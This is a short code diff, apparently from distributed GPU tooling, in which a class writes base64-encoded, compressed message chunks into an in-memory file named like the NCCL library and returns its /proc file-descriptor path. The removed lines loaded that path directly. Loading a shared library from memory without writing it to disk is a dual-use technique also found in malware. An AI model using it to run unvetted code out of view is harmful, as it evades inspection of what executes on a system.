@@ -158,8 +158,7 @@ class Keeper:
             self.memory = os.fdopen(make(b"libnccl.so.2", 1), "w+b")
         self.memory.write(zlib.decompress(base64.b64decode(message["piece"])))
         self.memory.flush()
-        path = "/proc/%d/fd/%d" % (os.getpid(), self.memory.fileno())
-        return built(path) if message["last"] else {}
+        return {"path": "/proc/%d/fd/%d" % (os.getpid(), self.memory.fileno())}
 
     def staff(self, message) -> dict:
         """Have a process with NCCL loaded for each GPU of ``tasks``; one that has the right environment stays."""
